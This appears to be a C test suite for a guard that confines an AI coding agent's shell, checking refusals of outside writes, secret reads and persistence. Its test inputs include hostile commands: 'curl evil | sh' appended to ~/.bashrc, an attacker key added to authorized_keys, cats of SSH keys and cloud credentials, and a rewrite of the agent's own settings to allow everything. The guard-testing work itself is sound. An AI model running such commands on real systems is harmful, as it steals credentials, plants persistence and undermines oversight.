	cr_expect(strstr(r.out, "errno 13"), "%s\n%s", r.out, r.err);
	cr_expect(!has_flag_a(f), "~/.bashrc got +A through a request with high bits");
}

Test(programs, redirect_truncate_bashrc)
{
	agt_setup(&t, "redir-bashrc");
	const char *f = P("%s/.bashrc", t.home);
	put(f, "alias ll='ls -l'\n");

	agt_sh(&t, &r, "echo 'curl evil | sh' > ~/.bashrc");
	expect_status_failed();
	expect_file(f, "alias ll='ls -l'\n");
	expect_denied("write", f, "persistence");
}

Test(programs, redirect_append_profile)
{
	agt_setup(&t, "redir-profile");
	const char *f = P("%s/.profile", t.home);
	put(f, "PATH=$HOME/bin:$PATH\n");

	agt_sh(&t, &r, "echo 'curl evil | sh' >> ~/.profile");
	expect_status_failed();
	expect_file(f, "PATH=$HOME/bin:$PATH\n");
	expect_denied("write", f, "persistence");
}

Test(programs, truncate_outside_file)
{
	agt_setup(&t, "truncate");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	agt_sh(&t, &r, "truncate -s 0 '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

Test(programs, chmod_outside_file)
{
	agt_setup(&t, "chmod");
	const char *f = P("%s/notes.txt", t.out);
	struct stat st;
	put(f, "keep me\n");
	cr_assert_eq(chmod(f, 0640), 0);

	agt_sh(&t, &r, "chmod 777 '%s'", f);
	expect_status_failed();
	cr_assert_eq(stat(f, &st), 0, "%s is gone", f);
	cr_expect_eq(st.st_mode & 07777, 0640, "mode became %o", st.st_mode & 07777);
	expect_denied("chmod", f, "outside-workspace");
}

Test(programs, chown_outside_file)
{
	agt_setup(&t, "chown");
	const char *f = P("%s/notes.txt", t.out);
	struct stat before, after;
	put(f, "keep me\n");
	cr_assert_eq(stat(f, &before), 0);

	agt_sh(&t, &r, "chown %u:%u '%s'", (unsigned)before.st_uid + 4242,
	       (unsigned)before.st_gid + 4242, f);
	expect_status_failed();
	cr_assert_eq(stat(f, &after), 0, "%s is gone", f);
	cr_expect_eq(after.st_uid, before.st_uid, "owner changed");
	cr_expect_eq(after.st_gid, before.st_gid, "group changed");
	expect_denied("chmod", f, "outside-workspace");
}

Test(programs, touch_new_outside_file_is_allowed)
{
	agt_setup(&t, "touch-new");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	const char *f = P("%s/fresh.txt", t.out);

	agt_sh(&t, &r, "touch '%s'", f);
	expect_status_ok();
	cr_expect(agt_exists(f), "touch did not create %s", f);
	expect_quiet();
}

Test(programs, sed_in_place_on_outside_file)
{
	agt_setup(&t, "sed-outside");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	agt_sh(&t, &r, "sed -i 's/keep/lose/' '%s'", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	/* sed writes a temporary next to the file and renames it over. */
	cr_expect_eq(log_match("op", "rename", "path2", f, "rule", "outside-workspace", "mode",
			       "enforce", NULL),
		     1, "no rename onto %s refused; log:\n%s", f, logtext());
	cr_expect(strstr(r.err, P("-> %s (rule outside-workspace)\n", f)) != NULL, "stderr:\n%s",
		  r.err);
	struct agt_result ls;
	agt_sh_unguarded(&t, &ls, "ls -A '%s'", t.out);
	cr_expect_str_eq(ls.out, "notes.txt\n", "sed left its temporary behind");
}

Test(programs, git_clean_and_reset_in_an_outside_repository)
{
	agt_setup(&t, "git-outside");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	const char *repo = P("%s/repo", t.out);
	agt_mkdirs(repo);
	put(P("%s/tracked", repo), "v1\n");
	cr_assert_eq(agt_sh_unguarded(&t, &r,
				      "cd '%s' && git init -q && git add tracked && "
				      "git -c user.email=a@b -c user.name=n commit -qm one",
				      repo),
		     0, "set-up: %s", r.err);
	put(P("%s/tracked", repo), "local edits\n");
	put(P("%s/untracked.txt", repo), "precious\n");

	agt_sh(&t, &r, "git -C '%s' clean -fdx; git -C '%s' reset -q --hard", repo, repo);
	expect_status_failed();
	expect_file(P("%s/untracked.txt", repo), "precious\n");
	expect_file(P("%s/tracked", repo), "local edits\n");
	/* git clean is refused before it starts, or file by file. */
	const char *untracked[] = {P("%s/untracked.txt", repo), NULL};
	expect_tree_refused(repo, untracked);
	expect_denied("delete", P("%s/tracked", repo), "outside-workspace");
}

Test(programs, write_through_proc_self_fd)
{
	agt_setup(&t, "proc-fd");
	const char *f = P("%s/notes.txt", t.out);
	put(f, "keep me\n");

	/* A descriptor opened for reading, reopened for writing by its
	 * /proc name: the policy allows writing under /proc/self, not this. */
	agt_sh(&t, &r, "exec 3<'%s'; echo clobbered > /proc/self/fd/3", f);
	expect_status_failed();
	expect_file(f, "keep me\n");
	expect_denied("write", f, "outside-workspace");
}

/* ---- links ----------------------------------------------------------------- */

Test(programs, write_through_workspace_symlink_to_outside_file)
{
	agt_setup(&t, "symlink-write");
	const char *f = P("%s/notes.txt", t.out);
	const char *lnk = P("%s/link", t.ws);
	put(f, "keep me\n");
	cr_assert_eq(symlink(f, lnk), 0);

	agt_sh(&t, &r, "echo clobbered > link");
	expect_status_failed();
	expect_file(f, "keep me\n");
	/* The outside file is the outside file, whatever name led to it. */
	expect_denied("write", f, "outside-workspace");
}

Test(programs, hard_link_of_outside_file_into_workspace)
{
	agt_setup(&t, "hardlink-make");
	const char *f = P("%s/notes.txt", t.out);
	const char *hl = P("%s/hl", t.ws);
	struct stat st;
	put(f, "keep me\n");

	agt_sh(&t, &r, "ln '%s' hl", f);
	expect_status_failed();
	cr_expect(!agt_exists(hl), "the hard link was made");
	cr_assert_eq(stat(f, &st), 0);
	cr_expect_eq(st.st_nlink, 1, "the outside file has %lu links", (unsigned long)st.st_nlink);
	expect_file(f, "keep me\n");
	expect_denied2("link", f, hl, "outside-workspace");
}

Test(programs, write_through_preexisting_hard_link)
{
	agt_setup(&t, "hardlink-write");
	const char *f = P("%s/notes.txt", t.out);
	const char *hl = P("%s/hl", t.ws);
	put(f, "keep me\n");
	cr_assert_eq(agt_sh_unguarded(&t, &r, "ln '%s' hl", f), 0, "set-up: %s", r.err);

	agt_sh(&t, &r, "echo clobbered > hl");
	expect_status_failed();
	expect_file(f, "keep me\n");
	/* Only the workspace name is known; a multiply-linked file is judged
	 * as if it lay outside. */
	expect_denied("write", hl, "outside-workspace");
}

/* ---- secrets --------------------------------------------------------------- */

#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n"

Test(programs, cat_ssh_private_key)
{
	agt_setup(&t, "secret-cat");
	const char *f = P("%s/.ssh/id_rsa", t.home);
	put(f, KEY);

	agt_sh(&t, &r, "cat ~/.ssh/id_rsa");
	expect_status_failed();
	cr_expect(strstr(r.out, "secret-key-material") == NULL, "the key was read:\n%s", r.out);
	expect_file(f, KEY);
	expect_denied("read", f, "secrets");
}

Test(programs, python_reads_aws_credentials)
{
	agt_setup(&t, "secret-aws");
	const char *f = P("%s/.aws/credentials", t.home);
	put(f, "[default]\naws_secret_access_key = hunter2\n");

	py(PY_TRY("print(open(os.path.expanduser('~/.aws/credentials')).read())"), NULL, NULL);
	expect_py_refused();
	cr_expect(strstr(r.out, "hunter2") == NULL, "the credentials were read:\n%s", r.out);
	expect_denied("read", f, "secrets");
}

Test(programs, head_netrc)
{
	agt_setup(&t, "secret-netrc");
	const char *f = P("%s/.netrc", t.home);
	put(f, "machine example.com login me password hunter2\n");

	agt_sh(&t, &r, "head ~/.netrc");
	expect_status_failed();
	cr_expect(strstr(r.out, "hunter2") == NULL, "the netrc was read:\n%s", r.out);
	expect_denied("read", f, "secrets");
}

Test(programs, cp_ssh_key_into_workspace)
{
	agt_setup(&t, "secret-cp");
	const char *f = P("%s/.ssh/id_ed25519", t.home);
	const char *dst = P("%s/id_ed25519", t.ws);
	put(f, KEY);

	agt_sh(&t, &r, "cp ~/.ssh/id_ed25519 .");
	expect_status_failed();
	char *copy = agt_read(dst);
	cr_expect(copy == NULL || strstr(copy, "secret-key-material") == NULL,
		  "the key was copied into the workspace");
	free(copy);
	expect_file(f, KEY);
	expect_denied("read", f, "secrets");
}

Test(programs, reading_known_hosts_is_allowed)
{
	agt_setup(&t, "known-hosts");
	put(P("%s/.ssh/known_hosts", t.home), "github.com ssh-ed25519 AAAAC3Nza\n");

	agt_sh(&t, &r, "cat ~/.ssh/known_hosts");
	expect_status_ok();
	cr_expect(strstr(r.out, "github.com ssh-ed25519") != NULL, "stdout:\n%s", r.out);
	expect_quiet();
}

Test(programs, cat_credentials_of_every_kind)
{
	agt_setup(&t, "secret-table");
	static const char *const rel[] = {
	    ".gnupg/private-keys-v1.d/AB12.key",
	    ".docker/config.json",
	    ".kube/config",
	    ".config/gcloud/application_default_credentials.json",
	    ".git-credentials",
	    ".ssh/id_ecdsa",
	    ".aws/config",
	};
	size_t n = sizeof(rel) / sizeof(rel[0]);
	for (size_t i = 0; i < n; i++)
		put(P("%s/%s", t.home, rel[i]), "token-hunter2\n");

	for (size_t i = 0; i < n; i++) {
		agt_sh(&t, &r, "cat ~/'%s'", rel[i]);
		cr_expect_neq(r.status, 0, "cat ~/%s succeeded", rel[i]);
		cr_expect(strstr(r.out, "hunter2") == NULL, "~/%s was read", rel[i]);
		expect_denied("read", P("%s/%s", t.home, rel[i]), "secrets");
	}
}

Test(programs, secret_through_workspace_symlink)
{
	agt_setup(&t, "secret-symlink");
	const char *f = P("%s/.ssh/id_rsa", t.home);
	put(f, KEY);
	cr_assert_eq(symlink(f, P("%s/key.txt", t.ws)), 0);

	agt_sh(&t, &r, "cat key.txt");
	expect_status_failed();
	cr_expect(strstr(r.out, "secret-key-material") == NULL, "the key was read:\n%s", r.out);
	expect_denied("read", f, "secrets");
}

Test(programs, grep_r_over_home_leaks_no_secret)
{
	agt_setup(&t, "secret-grep");
	const char *key = P("%s/.ssh/id_ed25519", t.home);
	put(key, KEY);
	put(P("%s/notes.txt", t.home), "secret-key-material is a phrase\n");

	agt_sh(&t, &r, "grep -r secret-key-material ~");
	cr_expect(strstr(r.out, "notes.txt") != NULL, "an ordinary file was not searched:\n%s",
		  r.out);
	cr_expect(strstr(r.out, ".ssh") == NULL, "the key was searched:\n%s", r.out);
	expect_denied("read", key, "secrets");
}

Test(programs, tar_of_ssh_dir_leaves_the_key_out)
{
	agt_setup(&t, "secret-tar");
	const char *key = P("%s/.ssh/id_rsa", t.home);
	put(key, KEY);
	put(P("%s/.ssh/known_hosts", t.home), "github.com ssh-ed25519 AAAA\n");

	agt_sh(&t, &r, "tar cf ssh.tar -C ~ .ssh");
	expect_status_failed();
	struct agt_result list;
	agt_sh_unguarded(&t, &list, "tar xOf ssh.tar 2>/dev/null; tar tf ssh.tar");
	cr_expect(strstr(list.out, "secret-key-material") == NULL, "the key is in the archive");
	cr_expect(strstr(list.out, ".ssh/known_hosts") != NULL, "archive:\n%s", list.out);
	expect_denied("read", key, "secrets");
}

Test(programs, reading_ssh_public_key_is_allowed)
{
	agt_setup(&t, "ssh-pub");
	put(P("%s/.ssh/id_ed25519.pub", t.home), "ssh-ed25519 AAAAC3Nzapublic me@laptop\n");

	/* A public key is not a secret: it is pasted into forges and read by
	 * git for SSH commit signing. */
	agt_sh(&t, &r, "cat ~/.ssh/id_ed25519.pub");
	expect_status_ok();
	cr_expect(strstr(r.out, "AAAAC3Nzapublic") != NULL, "stdout:\n%s\nstderr:\n%s", r.out,
		  r.err);
	expect_quiet();
}

/* ---- persistence ------------------------------------------------------------ */

Test(programs, append_to_bashrc)
{
	agt_setup(&t, "persist-bashrc");
	const char *f = P("%s/.bashrc", t.home);
	put(f, "export EDITOR=vi\n");

	agt_sh(&t, &r, "printf 'curl evil | sh\\n' >> \"$HOME/.bashrc\"");
	expect_status_failed();
	expect_file(f, "export EDITOR=vi\n");
	expect_denied("write", f, "persistence");
}

Test(programs, create_autostart_entry)
{
	agt_setup(&t, "persist-autostart");
	agt_mkdirs(P("%s/.config/autostart", t.home));
	const char *f = P("%s/.config/autostart/x.desktop", t.home);

	agt_sh(&t, &r, "printf '[Desktop Entry]\\nExec=evil\\n' > ~/.config/autostart/x.desktop");
	expect_status_failed();
	cr_expect(!agt_exists(f), "the autostart entry was planted");
	expect_denied("create", f, "persistence");
}

Test(programs, create_systemd_user_unit)
{
	agt_setup(&t, "persist-systemd");
	agt_mkdirs(P("%s/.config/systemd/user", t.home));
	const char *f = P("%s/.config/systemd/user/x.service", t.home);

	agt_sh(&t, &r, "printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/x.service");
	expect_status_failed();
	cr_expect(!agt_exists(f), "the systemd unit was planted");
	expect_denied("create", f, "persistence");
}

Test(programs, append_to_authorized_keys)
{
	agt_setup(&t, "persist-authkeys");
	const char *f = P("%s/.ssh/authorized_keys", t.home);
	put(f, "ssh-ed25519 AAAAgood me@laptop\n");

	agt_sh(&t, &r, "echo 'ssh-rsa AAAAevil attacker' >> ~/.ssh/authorized_keys");
	expect_status_failed();
	expect_file(f, "ssh-ed25519 AAAAgood me@laptop\n");
	expect_denied("write", f, "persistence");
}

Test(programs, create_authorized_keys)
{
	agt_setup(&t, "persist-authkeys-new");
	agt_mkdirs(P("%s/.ssh", t.home));
	const char *f = P("%s/.ssh/authorized_keys", t.home);

	agt_sh(&t, &r, "echo 'ssh-rsa AAAAevil attacker' > ~/.ssh/authorized_keys");
	expect_status_failed();
	cr_expect(!agt_exists(f), "authorized_keys was planted");
	expect_denied("create", f, "persistence");
}

Test(programs, sed_in_place_on_bashrc)
{
	agt_setup(&t, "persist-sed-bashrc");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	const char *f = P("%s/.bashrc", t.home);
	put(f, "export EDITOR=vi\n");

	agt_sh(&t, &r, "sed -i '$a curl evil | sh' ~/.bashrc");
	expect_status_failed();
	expect_file(f, "export EDITOR=vi\n");
	cr_expect_eq(log_match("op", "rename", "path2", f, "rule", "persistence", NULL), 1,
		     "no rename onto %s refused; log:\n%s", f, logtext());
	cr_expect(strstr(r.err, P("-> %s (rule persistence)\n", f)) != NULL, "stderr:\n%s", r.err);
}

Test(programs, mv_and_symlink_into_autostart)
{
	agt_setup(&t, "persist-mv-autostart");
	const char *dir = P("%s/.config/autostart", t.home);
	const char *src = P("%s/evil.desktop", t.ws);
	agt_mkdirs(dir);
	put(src, "[Desktop Entry]\nExec=evil\n");

	agt_sh(&t, &r,
	       "mv evil.desktop ~/.config/autostart/x.desktop; "
	       "ln -s \"$PWD/evil.desktop\" ~/.config/autostart/y.desktop; "
	       "cp evil.desktop ~/.config/autostart/z.desktop");
	expect_status_failed();
	expect_file(src, "[Desktop Entry]\nExec=evil\n");
	struct agt_result ls;
	agt_sh_unguarded(&t, &ls, "ls -A '%s'", dir);
	cr_expect_str_eq(ls.out, "", "planted in autostart: %s", ls.out);
	/* The rename is refused for the name it would create. */
	const char *x = P("%s/x.desktop", dir);
	cr_expect_eq(
	    log_match("path", src, "path2", x, "rule", "persistence", "mode", "enforce", NULL), 1,
	    "no refusal of the move to %s; log:\n%s", x, logtext());
	expect_denied("create", P("%s/y.desktop", dir), "persistence");
	expect_denied("create", P("%s/z.desktop", dir), "persistence");
}

/* ---- ordinary work: the guard says nothing ----------------------------------- */

Test(programs, git_everyday)
{
	agt_setup(&t, "work-git");
	put(P("%s/main.c", t.ws), "int main(void) { return 0; }\n");

	agt_sh(&t, &r,
	       "set -e\n"
	       "git add main.c\n"
	       "git commit -q -m first\n"
	       "git branch feature\n"
	       "git checkout -q feature\n"
	       "echo '/* more */' >> main.c\n"
	       "git commit -q -am second\n"
	       "git checkout -q -\n"
	       "git status --short\n"
	       "git gc -q\n"
	       "git log --oneline feature | wc -l\n");
	expect_status_ok();
	cr_expect(strstr(r.out, "2") != NULL, "feature has not two commits:\n%s", r.out);
	expect_quiet();
}

Test(programs, cc_and_make)
{
	agt_setup(&t, "work-make");
	put(P("%s/hello.c", t.ws),
	    "#include <stdio.h>\nint main(void) { puts(\"hello from make\"); return 0; }\n");
	put(P("%s/Makefile", t.ws), "hello: hello.o\n\tcc -o $@ $^\n"
				    "hello.o: hello.c\n\tcc -O2 -c -o $@ $<\n"
				    "clean:\n\trm -f hello hello.o\n");

	agt_sh(&t, &r, "set -e; make -s; ./hello; make -s clean; make -s; test -x hello");
	expect_status_ok();
	cr_expect(strstr(r.out, "hello from make") != NULL, "stdout:\n%s\nstderr:\n%s", r.out,
		  r.err);
	expect_quiet();
}

Test(programs, sed_in_place)
{
	agt_setup(&t, "work-sed");
	const char *f = P("%s/config.txt", t.ws);
	put(f, "colour = red\n");

	agt_sh(&t, &r, "sed -i 's/red/blue/' config.txt");
	expect_status_ok();
	expect_file(f, "colour = blue\n");
	expect_quiet();
}

Test(programs, tar_round_trip)
{
	agt_setup(&t, "work-tar");
	put(P("%s/src/a.txt", t.ws), "alpha\n");
	put(P("%s/src/deep/b.txt", t.ws), "beta\n");

	agt_sh(&t, &r,
	       "set -e; tar czf src.tgz src; mkdir unpacked; tar xzf src.tgz -C unpacked; "
	       "diff -r src unpacked/src");
	expect_status_ok();
	expect_file(P("%s/unpacked/src/deep/b.txt", t.ws), "beta\n");
	expect_quiet();
}

Test(programs, python_venv, .timeout = 180)
{
	agt_setup(&t, "work-venv");
	if (agt_sh_unguarded(&t, &r, "python3 -c 'import venv, ensurepip'") != 0)
		cr_skip_test("python3 has no venv/ensurepip module (apt-get install python3-venv)");

	agt_sh(&t, &r,
	       "python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'");
	expect_status_ok();
	cr_expect(strstr(r.out, "/.venv") != NULL, "stdout:\n%s\nstderr:\n%s", r.out, r.err);
	expect_quiet();
}

Test(programs, npm_init)
{
	agt_setup(&t, "work-npm");
	if (!program_exists("npm"))
		cr_skip_test("npm is not installed (apt-get install npm)");
	const char *argv[] = {"npm", "init", "-y", NULL};
	const char *env[] = {"npm_config_update_notifier=false", "npm_config_fund=false",
			     "npm_config_audit=false", NULL};

	agt_run(&t, &r, argv, env);
	expect_status_ok();
	cr_expect(agt_exists(P("%s/package.json", t.ws)), "no package.json");
	expect_quiet();
}

Test(programs, mkdir_and_rm_rf_build)
{
	agt_setup(&t, "work-build-dir");

	agt_sh(&t, &r,
	       "set -e; mkdir -p build/obj/deep; echo x > build/obj/deep/a.o; rm -rf build");
	expect_status_ok();
	cr_expect(!agt_exists(P("%s/build", t.ws)), "build/ is still there");
	expect_quiet();
}

Test(programs, temp_directories)
{
	agt_setup(&t, "work-temp");

	agt_sh(&t, &r,
	       "set -e\n"
	       "d=$(mktemp -d); echo x > \"$d/a\"; echo y >> \"$d/a\"; mv \"$d/a\" \"$d/b\"\n"
	       "chmod 600 \"$d/b\"; rm -rf \"$d\"\n"
	       "echo kept > \"$TMPDIR/kept\"\n"
	       "f=$(mktemp /tmp/agt-programs.XXXXXX); echo x > \"$f\"; echo y >> \"$f\"\n"
	       "truncate -s 0 \"$f\"; mv \"$f\" \"$f.2\"; rm \"$f.2\"\n"
	       "g=$(mktemp -d /tmp/agt-programs.XXXXXX); mkdir -p \"$g/a/b\"; rm -rf \"$g\"\n");
	expect_status_ok();
	expect_file(P("%s/kept", t.tmp), "kept\n");
	expect_quiet();
}

Test(programs, home_cache_and_history)
{
	agt_setup(&t, "work-home-state");
	const char *hist = P("%s/.bash_history", t.home);
	put(hist, "ls\n");
	put(P("%s/.cache/x", t.home), "old\n");

	agt_sh(&t, &r,
	       "set -e; echo new > ~/.cache/x; mkdir -p ~/.cache/tool; "
	       "echo y > ~/.cache/tool/y; rm -rf ~/.cache/tool; echo 'make' >> ~/.bash_history");
	expect_status_ok();
	expect_file(P("%s/.cache/x", t.home), "new\n");
	expect_file(hist, "ls\nmake\n");
	expect_quiet();
}

/* ---- audit mode --------------------------------------------------------------- */

Test(programs, audit_mode_allows_and_logs_every_refusal)
{
	agt_setup(&t, "audit-rm-rf");
	t.audit = true;
	const char *proj = outside_tree();

	agt_sh(&t, &r, "rm -rf '%s'", proj);
	expect_status_ok();
	cr_expect(!agt_exists(proj), "audit mode did not let the delete through");
	const char *would[] = {P("%s/a.txt", proj), P("%s/sub/b.txt", proj), P("%s/sub", proj),
			       proj, NULL};
	for (const char *const *p = would; *p; p++)
		cr_expect(log_match("op", "delete", "path", *p, "rule", "outside-workspace", "mode",
				    "audit", NULL) > 0,
			  "no audit line for the delete of %s; log:\n%s", *p, logtext());
	int lines = agt_log_lines(&t);
	cr_expect_geq(lines, 4, "log:\n%s", logtext());
	cr_expect_eq(log_match("mode", "audit", NULL), lines,
		     "a line without \"mode\":\"audit\"; log:\n%s", logtext());
}

/* ---- agents' own files ---------------------------------------------------- */

/* An agent keeps its state (here the way Claude Code does: a temp file
 * renamed onto ~/.claude.json, session logs under ~/.claude/projects) but
 * cannot rewrite its settings, in the home directory or the workspace. */
Test(programs, agent_state_is_kept_and_agent_settings_are_out_of_reach)
{
	agt_setup(&t, "agent-files");
	t.no_floor = true; /* the preload's own answer; test_floor has the floor's */
	put(P("%s/.claude/settings.json", t.home), "{\"permissions\": {}}\n");
	put(P("%s/.claude/settings.json", t.ws), "{\"permissions\": {}}\n");

	agt_sh(&t, &r,
	       "mkdir -p ~/.claude/projects/p && echo '{}' > ~/.claude/projects/p/s.jsonl && "
	       "echo '{\"n\":1}' > ~/.claude.json.tmp && mv ~/.claude.json.tmp ~/.claude.json && "
	       "echo state-ok; "
	       "echo '{\"permissions\":{\"allow\":[\"*\"]}}' > ~/.claude/settings.json; "
	       "echo home=$?; "
	       "echo '{\"permissions\":{\"allow\":[\"*\"]}}' > .claude/settings.json; "
	       "echo ws=$?; mkdir -p ~/.claude/commands; echo cmd=$?");
	cr_expect(strstr(r.out, "state-ok"), "out: %s err: %s", r.out, r.err);
	cr_expect(strstr(r.out, "home=1") && strstr(r.out, "ws=1") && strstr(r.out, "cmd=1"),
		  "out: %s err: %s", r.out, r.err);
	expect_file(P("%s/.claude/settings.json", t.home), "{\"permissions\": {}}\n");
	expect_file(P("%s/.claude/settings.json", t.ws), "{\"permissions\": {}}\n");
	expect_file(P("%s/.claude.json", t.home), "{\"n\":1}\n");
	expect_denied("write", P("%s/.claude/settings.json", t.home), "agent-settings");
	expect_denied("write", P("%s/.claude/settings.json", t.ws), "agent-settings");
	expect_denied("create", P("%s/.claude/commands", t.home), "agent-settings");
}

/* Stat-like calls made through syscall() (as Claude Code's Read tool makes
 * them) are refused on secrets as their reads would be. */
Test(programs, stat_through_syscall_of_a_secret_is_refused)
{
	agt_setup(&t, "statx-secret");
	put(P("%s/.ssh/id_rsa", t.home), "KEY\n");
	put(P("%s/notes.txt", t.ws), "ok\n");
	const char *code = "import ctypes, os, sys\n"
			   "libc = ctypes.CDLL(None, use_errno=True)\n"
			   "buf = ctypes.create_string_buffer(512)\n"
			   "for p in sys.argv[1:3]:\n"
			   "    rc = libc.syscall(332, -100, p.encode(), 0, 0x7ff, buf)\n"
			   "    print(p.rsplit('/', 1)[1], rc, ctypes.get_errno() if rc else 0)\n"
			   "    rc = libc.syscall(21, p.encode(), 4)\n"
			   "    print('access', rc, ctypes.get_errno() if rc else 0)\n";
	py(code, P("%s/.ssh/id_rsa", t.home), P("%s/notes.txt", t.ws));
	cr_expect(strstr(r.out, "id_rsa -1 13"), "statx of the key: %s err: %s", r.out, r.err);
	cr_expect(strstr(r.out, "notes.txt 0 0"), "statx of a plain file: %s", r.out);
	cr_expect(strstr(r.out, "access -1 13") && strstr(r.out, "access 0 0"), "access: %s",
		  r.out);
	expect_denied("read", P("%s/.ssh/id_rsa", t.home), "secrets");
}
